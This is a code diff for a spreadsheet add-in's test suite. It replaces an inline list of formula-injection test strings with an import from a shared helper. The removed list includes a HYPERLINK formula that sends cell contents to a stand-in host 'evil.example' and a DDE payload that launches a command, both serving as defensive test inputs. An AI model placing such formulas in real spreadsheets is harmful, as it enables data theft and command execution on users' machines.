@@ -9,6 +9,7 @@ import { writeScenarioSheet } from "../../src/taskpane/scenarioWriter";
 import { DEFAULT_TARGET_VALUES } from "../../src/taskpane/targets";
 import { DEFAULT_ASSUMPTIONS, project } from "../../src/core/planning";
 import { formula, type CellValue } from "../../src/workbook/types";
+import { FORMULA_LOOKING_TEXT } from "../support/hostileText";
 import { HARNESSES, type HostHarness } from "./hostHarnesses";
 
 // office-addin-mock asks office-addin-manifest which host it mocks; the shared stub is empty.
@@ -26,20 +27,7 @@ const staffRows = (n: number): CellValue[][] =>
     i === 2 ? null : 12,
   ]);
 
-const HOSTILE_TEXT = [
-  '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
-  "=cmd|' /C calc'!A0",
-  "+5 ASYE",
-  "-3 agency",
-  "@SUM(A1)",
-  "1/2",
-  "007",
-  "TRUE",
-  "#N/A",
-  "'quoted",
-  "2026-01",
-  "12%",
-];
+const HOSTILE_TEXT = FORMULA_LOOKING_TEXT;
 
 describe.each(HARNESSES)("%s", (_name, makeHarness) => {
   let h: HostHarness;
